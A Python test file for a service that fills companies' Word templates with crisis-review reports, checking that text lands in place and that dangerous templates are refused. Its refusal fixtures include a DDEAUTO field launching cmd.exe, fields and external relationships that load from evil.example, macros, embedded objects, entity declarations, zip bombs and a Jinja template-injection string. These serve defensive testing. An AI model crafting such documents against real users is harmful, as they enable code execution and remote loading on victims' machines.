"""Companies' Word templates: filled as they look, never run, and refused with words where they would harm a reader."""

import time
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from io import BytesIO
from os import urandom
from typing import Any

import pytest
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Cm, Pt
from lxml import etree

from app.domain.blocks import Grid, Heading, Lines, Mark, Words
from app.domain.review_report import Report
from app.reviews.report_docx import docx
from app.reviews.template_filling import TemplateRefused, examined, filled

REPORT = Report(
    "2026-0031", "危机复盘报告", "2026-0031 牛奶{{编号}}异物", "一级(重大)", datetime(2026, 3, 5, 2, 0, tzinfo=UTC),
    (
        Heading(1, "一、四个问题"), Lines((("累计传播量 111,370。", (Mark(event_id=7), "等 9 个事件")),)),
        Words("{{标题}} {% for x in y %}"), Grid(("时限", "截止"), (("首次响应", "2026-03-05 10:00"),), ((Mark(source=1),),)),
    ),
    (),
)  # fmt: skip


def template(change: Callable[[Any], None] = lambda _: None, *, body: str = "{{报告正文}}") -> bytes:
    """A company's document, with a header, a footer, a table and styles of its own."""
    paper = Document()
    paper.styles["Heading 1"].font.size = Pt(31)
    paper.sections[0].header.paragraphs[0].text = "某某乳业 内部资料 {{编号}}"
    paper.sections[0].footer.paragraphs[0].text = "密级：内部"
    title = paper.add_paragraph()
    # As Word cuts it: each piece in a run of its own.
    for piece in ("〖{", "{标", "题}", "}〗", "{{日期}}"):
        title.add_run(piece).bold = piece == "{标"
    table = paper.add_table(1, 2)
    table.cell(0, 0).text, table.cell(0, 1).text = "等级", "{{ 等级 }}"
    paper.add_paragraph("正文在此之前")
    paper.add_paragraph(body)
    paper.add_paragraph("正文在此之后：{{事件}}")
    change(paper)
    return bytes_of(paper)


def bytes_of(paper: Any) -> bytes:
    file = BytesIO()
    paper.save(file)
    return file.getvalue()


def repacked(
    content: bytes, change: Callable[[str, bytes], bytes | None] = lambda _, text: text, **more: bytes
) -> bytes:
    """The same archive with members changed, left out or added."""
    file = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            text = change(name, old.read(name))
            if text is not None:
                new.writestr(name, text)
        for name, text in more.items():
            new.writestr(name.replace("__", "/"), text)
    return file.getvalue()


def test_the_report_takes_its_place_and_the_rest_stays():
    paper = Document(BytesIO(filled(template(), REPORT, [])))
    said = [paragraph.text for paragraph in paper.paragraphs]
    assert said[0] == "〖危机复盘报告〗2026-03-05 10:00"
    before, after = said.index("正文在此之前"), said.index("正文在此之后：2026-0031 牛奶{{编号}}异物")
    assert before < said.index("一、四个问题") < said.index("· 累计传播量 111,370。 [#7] [等 9 个事件]") < after
    assert "{{报告正文}}" not in said
    assert paper.sections[0].header.paragraphs[0].text == "某某乳业 内部资料 2026-0031"
    assert paper.sections[0].footer.paragraphs[0].text == "密级：内部"
    assert paper.styles["Heading 1"].font.size == Pt(31)
    assert [[cell.text for cell in row.cells] for row in paper.tables[0].rows] == [["等级", "一级(重大)"]]
    assert [cell.text for cell in paper.tables[1].rows[1].cells] == ["首次响应", "2026-03-05 10:00", "[源1]"]


def test_a_replaced_word_looks_as_its_first_sign_did():
    paper = Document(BytesIO(filled(template(), REPORT, [])))
    runs = {run.text: run.bold for run in paper.paragraphs[0].runs if run.text}
    assert runs["〖危机复盘报告"] is False


def test_what_people_wrote_and_what_looks_like_a_program_is_never_run():
    jinja = "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% endfor %} {# x #} ${7*7} <%= 7*7 %>"
    paper = Document(BytesIO(filled(template(lambda paper: paper.add_paragraph(jinja)), REPORT, [])))
    said = [paragraph.text for paragraph in paper.paragraphs]
    assert jinja in said
    assert "{{标题}} {% for x in y %}" in said, "of the report's own words none is a placeholder"


def test_placeholders_are_found_wherever_they_stand():
    assert examined(template()) == ["标题", "日期", "等级", "报告正文", "事件", "编号"]


def external(kind: str) -> Callable[[str, bytes], bytes]:
    link = (
        f'<Relationship Id="rId99" TargetMode="External" Target="https://evil.example/x" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
    )

    def change(name: str, text: bytes) -> bytes:
        return text.replace(b"</Relationships>", link.encode()) if name == "word/_rels/document.xml.rels" else text

    return change


def field(words: str) -> Callable[[Any], None]:
    def change(paper: Any) -> None:
        for piece in (words[:4], words[4:]):
            text = OxmlElement("w:instrText")
            text.text = piece
            paper.add_paragraph().add_run()._element.append(text)

    return change


def within_a_table(paper: Any) -> None:
    paper.add_table(1, 1).cell(0, 0).text = "{{报告正文}}"


def entities(name: str, text: bytes) -> bytes:
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
    return bomb + text.partition(b"?>")[2] if name == "word/document.xml" else text


def with_macros(name: str, text: bytes) -> bytes:
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return text.replace(plain, b"application/vnd.ms-word.document.macroEnabled.main+xml")


def spoilt(name: str, text: bytes) -> bytes | None:
    return text[: len(text) // 2] if name == "word/document.xml" else text


def instructions(*said: str) -> Callable[[Any], None]:
    """Fields beside each other, as Word holds them."""

    def change(paper: Any) -> None:
        for words in said:
            element = OxmlElement("w:instrText")
            element.text, _, rest = words.partition("|")
            if rest:
                note = etree.Comment("x")
                element.append(note)
                note.tail = rest
            paper.add_paragraph().add_run()._element.append(element)

    return change


def simple_field(paper: Any) -> None:
    instructions("PAGE")(paper)
    element = OxmlElement("w:fldSimple")
    element.set(qn("w:instr"), "INCLUDETEXT http://evil.example/x")
    paper.add_paragraph()._p.append(element)


def fields_within(paper: Any) -> None:
    """A field whose words are cut around another's: {DD{PAGE}EAUTO}, after one that ends without a space."""
    run = paper.add_paragraph().add_run()._element
    for kind, words in (
        ("begin", ""), ("", "PAGE"), ("end", ""), ("begin", ""), ("", "DD"), ("begin", ""), ("", "x"), ("end", ""),
        ("", "EAUTO c"), ("end", ""),
    ):  # fmt: skip
        element = OxmlElement("w:fldChar" if kind else "w:instrText")
        if kind:
            element.set(qn("w:fldCharType"), kind)
        element.text = words
        run.append(element)


def renamed(content: bytes) -> bytes:
    """Its header under a name that is not XML's, with a field in it."""
    bad = b"<w:p><w:r><w:instrText>DDEAUTO c:</w:instrText></w:r></w:p></w:hdr>"
    header = zipfile.ZipFile(BytesIO(content)).read("word/header1.xml").replace(b"</w:hdr>", bad)

    def change(name: str, text: bytes) -> bytes | None:
        return None if name == "word/header1.xml" else text.replace(b"header1.xml", b"header1.dat")

    return repacked(content, change, **{"word__header1.dat": header})


def without_pages(paper: Any) -> None:
    section = paper.element.body.sectPr
    section.getparent().remove(section)


def without_room(paper: Any) -> None:
    paper.sections[0].left_margin = Cm(30)


def in_body(words: bytes) -> Callable[[str, bytes], bytes]:
    return lambda name, text: text.replace(b"<w:body>", b"<w:body>" + words) if name == "word/document.xml" else text


REFUSED = {
    "no zip": (b"PK\x03\x04 but nothing more", "damaged"),
    "text": (b"hello", "damaged"),
    "a zip": (repacked(b"PK\x05\x06" + bytes(18), a=b"x"), "no Word document"),
    "no place": (template(body="在此"), "stands 0 times"),
    "two places": (template(lambda paper: paper.add_paragraph("{{报告正文}}")), "stands 2 times"),
    "beside words": (template(body="见 {{报告正文}}"), "of its own"),
    "in a table": (template(within_a_table, body="-"), "of its own"),
    "unknown": (template(lambda paper: paper.add_paragraph("{{ 7*7 }}")), "{{ 7*7 }}"),
    "macros": (repacked(template(), word__vbaProject_bin=b"x", **{"word__vbaProject.bin": b"x"}), "macros"),
    "a docm": (repacked(template(), with_macros), "macros"),
    "a template from elsewhere": (repacked(template(), external("attachedTemplate")), "attachedTemplate"),
    "a picture from elsewhere": (repacked(template(), external("image")), "loads something from elsewhere"),
    "a chunk": (repacked(template(), external("aFChunk")), "aFChunk"),
    "an object": (repacked(template(), **{"word__embeddings__oleObject1.bin": b"x"}), "embedded"),
    "a field that runs": (template(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "DDEAUTO"),
    "a field that loads": (template(field('INCLUDEPICTURE "http://evil.example/x"')), "INCLUDEPICTURE"),
    "a field beside one": (template(instructions("PAGE", "DDEAUTO c:")), "DDEAUTO"),
    "a field beside a simple one": (template(simple_field), "INCLUDETEXT"),
    "a field around one": (template(fields_within), "DDEAUTO"),
    "a field cut by a remark": (template(instructions("DD|EAUTO c:")), "DDEAUTO"),
    "a header by another name": (renamed(template()), "unusual name"),
    "without pages": (template(without_pages), "can't be written into"),
    "without room": (template(without_room), "can't be written into"),
    "a long book": (repacked(template(), in_body(b"<!--" + urandom(2**21).hex().encode() + b"-->")), "4 MB of text"),
    "paragraphs without end": (repacked(template(), in_body(b"<w:p/>" * 100_000)), "than a template needs"),
    "too many": (template(lambda paper: paper.add_paragraph("{{编号}}" * 1_001)), "1,000 placeholders"),
    "entities": (repacked(template(), entities), "entities"),
    "cut": (repacked(template(), spoilt), "damaged"),
    "without styles": (repacked(template(), lambda name, text: None if name == "word/document.xml" else text), "no Word document"),
    "a bomb": (repacked(template(), **{"word__media__x.png": bytes(60 * 1024 * 1024)}), "times its size"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_would_harm_is_refused_and_why_is_said(name):
    content, why = REFUSED[name]
    for verb in (lambda: examined(content), lambda: filled(content, REPORT, [])):
        with pytest.raises(TemplateRefused) as refused:
            verb()
        assert why in str(refused.value), refused.value


def test_a_link_that_people_click_is_no_harm():
    assert examined(repacked(template(), external("hyperlink")))


def test_a_document_without_headings_of_its_own_is_filled_all_the_same():
    def without(paper: Any) -> None:
        for rank in (1, 2, 3):
            style = paper.styles[f"Heading {rank}"].element
            style.getparent().remove(style)

    paper = Document(BytesIO(filled(template(without), REPORT, [])))
    [heading] = [paragraph for paragraph in paper.paragraphs if paragraph.text == "一、四个问题"]
    assert heading.runs[0].bold


def test_a_style_that_only_bears_the_name_of_a_heading_is_none():
    def of_signs(paper: Any) -> None:
        paper.styles["Heading 1"].element.set(qn("w:type"), "character")

    assert Document(BytesIO(filled(template(of_signs), REPORT, [])))


def test_signs_that_a_document_can_not_hold_are_told_of():
    words = "坏\x01字\x1b\ufffe"
    report = replace(
        REPORT, subject=words,
        blocks=(Heading(1, words), Words(words), Lines(((words, ()),)), Grid(("一", "二"), ((words, words),))),
    )  # fmt: skip
    for content in (docx(report, []), filled(template(), report, [])):
        said = [paragraph.text for paragraph in Document(BytesIO(content)).paragraphs]
        assert said.count("坏�字��") >= 2


def test_many_placeholders_in_one_paragraph_are_replaced_at_once():
    def many(paper: Any) -> None:
        paragraph = paper.add_paragraph()
        for sign in "见{{编号}}。" * 900:
            paragraph.add_run(sign)

    start = time.monotonic()
    paper = Document(BytesIO(filled(template(many), REPORT, [])))
    assert "见2026-0031。" * 900 in [paragraph.text for paragraph in paper.paragraphs]
    assert time.monotonic() - start < 5


def test_text_boxes_are_looked_into_too():
    def boxed(paper: Any) -> None:
        run = paper.add_paragraph().add_run()._element
        box, paragraph, inner, text = (OxmlElement(f"w:{name}") for name in ("pict", "p", "r", "t"))
        text.text = "{{编号}}"
        inner.append(text)
        paragraph.append(inner)
        box.append(paragraph)
        run.append(box)

    paper = Document(BytesIO(filled(template(boxed), REPORT, [])))
    assert "2026-0031" in [text.text for text in paper.element.body.iter(qn("w:t"))]
